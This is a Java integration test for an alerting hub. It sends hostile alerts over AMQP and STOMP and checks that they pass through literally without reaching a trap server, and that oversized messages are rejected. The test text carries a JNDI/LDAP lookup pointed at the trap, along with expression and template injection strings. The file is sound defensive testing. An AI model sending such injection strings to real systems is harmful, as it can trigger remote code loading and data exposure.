package org.tocsin.hub;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.time.Duration;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.tocsin.simulator.SimulatorSettings;
import org.tocsin.testing.Cap;
import org.tocsin.testing.HostileSenders;
import org.tocsin.testing.Hub;
import org.tocsin.testing.OutsideClient;
import org.tocsin.testing.ParkedTriggers;
import org.tocsin.testing.Person;
import org.tocsin.testing.Trap;

/** What {@link HostileInputIT} shows of JMS, for AMQP 1.0 and STOMP: nothing beside the text steers anything. */
class HostileProtocolsLongIT {
    private static final Duration LONG = Duration.ofSeconds(60);
    private static final Trap trap = new Trap();

    private static Hub hub;
    private static HostileSenders senders;

    private final String name = UUID.randomUUID().toString().substring(0, 8);

    @BeforeAll
    static void start() {
        OutsideClient.PROTON.required();
        hub = Hub.start(SimulatorSettings.defaults(), "--tocsin.broker.amqp-port=0", "--tocsin.broker.stomp-port=0");
        senders = new HostileSenders(hub, "http://" + trap.address() + "/?to=trap@example.org");
    }

    @AfterAll
    static void stop() {
        int heard = trap.calls();
        trap.stepInto();
        await().atMost(LONG).until(() -> trap.calls() == heard + 1); // it would have noticed
        if (hub != null) {
            hub.close();
        }
        trap.close();
    }

    enum Way {
        AMQP_VALUE,
        AMQP_DATA,
        STOMP_TEXT,
        STOMP_BYTES
    }

    @ParameterizedTest
    @EnumSource
    void whatWouldSteerARouteIsDroppedAndTheTextReachesThePhoneLiterally(Way way) throws Exception {
        Person person = Person.of(hub);
        String text = name + " ${bean:x} {{sys:user.home}} ${jndi:ldap://" + trap.address() + "/x}";
        String alert = Cap.named(name, "Flood", text, person.id());
        switch (way) {
            case AMQP_VALUE -> senders.amqp("value", alert);
            case AMQP_DATA -> senders.amqp("data", alert);
            case STOMP_TEXT -> senders.stomp(false, alert);
            case STOMP_BYTES -> senders.stomp(true, alert);
        }
        await().atMost(LONG).until(() -> person.whatsAppsOnPhone() == 1);
        assertThat(person.whatsApp()).singleElement().satisfies(sent -> assertThat(
                        sent.params().values().stream().anyMatch(value -> value.contains(text)))
                .isTrue());
        assertThat(hub.jdbc()
                        .queryForObject(
                                "select source || ' ' || submitted_by from alert where identifier = ?",
                                String.class,
                                name))
                .isEqualTo("jms-incidents incident");
        assertThat(trap.calls()).as("connections to the trap").isZero();
        assertThat(hub.simulator.mail().journal().messagesTo("trap@example.org"))
                .isEmpty();
    }

    /** A large message of AMQP is written to the disk while it comes, before anybody can look at it. */
    @Test
    void tenMegabytesAreRefusedAndLeaveNothingOnTheDisk() {
        String body = "x".repeat(10 << 20);
        long parked = ParkedTriggers.newest(hub);
        assertThatThrownBy(() -> senders.amqp("data", body)).isInstanceOf(AssertionError.class);
        assertThatThrownBy(() -> senders.stomp(false, body)).isInstanceOf(IOException.class);
        assertThatThrownBy(() -> senders.stomp(true, body)).isInstanceOf(IOException.class);
        assertThat(ParkedTriggers.newest(hub)).isEqualTo(parked);
        await().atMost(LONG).untilAsserted(() -> assertThat(
                        hub.folder.resolve("broker/large").toFile().list())
                .isNullOrEmpty());
    }
}
